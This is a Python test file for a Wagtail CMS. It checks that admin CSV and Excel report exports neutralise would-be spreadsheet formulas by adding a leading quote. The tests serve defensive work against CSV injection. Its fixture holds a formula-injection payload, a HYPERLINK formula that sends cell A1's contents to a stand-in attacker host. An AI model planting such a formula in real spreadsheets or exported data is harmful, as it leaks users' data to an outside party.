"""Every CSV download of the admin shows a would-be spreadsheet formula as text (cms/wagtail_export_compat.py):
these tests fail when Wagtail 7.4 writes CSV cells another way."""

import datetime
import io

import pytest
from django.urls import get_resolver
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cms.models import HelpPage
from cms.wagtail_export_compat import csv_safe
from tests.csv_downloads import csv_rows
from tests.factories.cms import HelpPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return csv_rows(response)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, f"'{FORMULA}"),
        ("+44 1632 960000", "'+44 1632 960000"),
        ("-2 weeks", "'-2 weeks"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Signing in", "Signing in"),
        ("", ""),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(value, shown):
    assert csv_safe(value) == shown


class _Named:
    """An object the CSV holds as its text, as Wagtail's locked pages report holds the user who locked a page."""

    def __init__(self, name):
        self.name = name

    def __str__(self):
        return self.name


def test_an_objects_text_a_spreadsheet_would_run_gets_a_leading_quote():
    """Only a str was looked at: an object (a user named "=HYPERLINK(...)") was written as its text unchecked."""
    named = _Named("Sam Carter")
    when = datetime.datetime(2026, 12, 4, 9, 30, tzinfo=datetime.UTC)

    assert csv_safe(_Named(FORMULA)) == f"'{FORMULA}"
    assert csv_safe(named) is named
    assert (csv_safe(-2.5), csv_safe(True), csv_safe(when), csv_safe(datetime.timedelta(days=-1))) == (
        -2.5,
        True,
        when,
        datetime.timedelta(days=-1),
    )


def test_a_report_downloaded_as_csv_shows_a_formula_as_text(verified_admin_client, home_page):
    page = HelpPageFactory(parent=home_page, title=FORMULA, review_by=timezone.localdate() - datetime.timedelta(1))
    page.save_revision().publish()
    assert HelpPage.objects.get(pk=page.pk).live

    rows = _csv_rows(verified_admin_client.get("/admin/reports/due-for-review/?export=csv"))

    assert [row["Page"] for row in rows] == [f"'{FORMULA}"]
    assert rows[0]["Status"] == "Overdue"  # other cells as they were


def test_the_excel_download_keeps_the_words_as_text(verified_admin_client, home_page):
    from openpyxl import load_workbook

    page = HelpPageFactory(parent=home_page, title=FORMULA, review_by=timezone.localdate() - datetime.timedelta(1))
    page.save_revision().publish()

    response = verified_admin_client.get("/admin/reports/due-for-review/?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == FORMULA and cell.data_type == "s"


def _export_view_classes(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if hasattr(pattern, "url_patterns"):
            yield from _export_view_classes(pattern)
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is not None and issubclass(view_class, SpreadsheetExportMixin):
            yield view_class


def test_every_admin_export_view_writes_its_cells_through_the_neutralised_method(db):
    """A view that wrote its CSV cells its own way would skip the quote: none does, ours or Wagtail's."""
    views = set(_export_view_classes())

    assert len(views) > 10  # reports, and every model and snippet listing
    assert getattr(SpreadsheetExportMixin.preprocess_field_value, "csv_safe", False)
    for view in views:
        assert view.preprocess_field_value is SpreadsheetExportMixin.preprocess_field_value, view
        assert view.write_csv_row is SpreadsheetExportMixin.write_csv_row, view
        assert view.stream_csv is SpreadsheetExportMixin.stream_csv, view
        assert view.write_csv_response is SpreadsheetExportMixin.write_csv_response, view  # charset and BOM
